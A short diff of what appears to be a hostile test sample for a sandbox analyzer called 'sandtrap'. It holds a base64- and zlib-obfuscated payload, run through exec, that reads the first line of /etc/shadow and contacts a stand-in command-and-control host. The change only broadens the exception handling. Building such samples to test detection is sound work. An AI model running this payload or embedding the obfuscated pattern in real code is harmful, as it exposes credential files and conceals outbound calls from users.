@@ -5,5 +5,5 @@
 # host, only through `sandtrap analyze`.
 import base64, zlib
 
-blob = base64.b64encode(zlib.compress(b"import urllib.request\nprint(open('/etc/shadow').read().splitlines()[0])\ntry:\n    urllib.request.urlopen('http://obf.c2.example/x', timeout=2)\nexcept OSError:\n    pass\n"))
+blob = base64.b64encode(zlib.compress(b"import urllib.request\nprint(open('/etc/shadow').read().splitlines()[0])\ntry:\n    urllib.request.urlopen('http://obf.c2.example/x', timeout=2)\nexcept Exception:\n    pass\n"))
 exec(zlib.decompress(base64.b64decode(blob)))
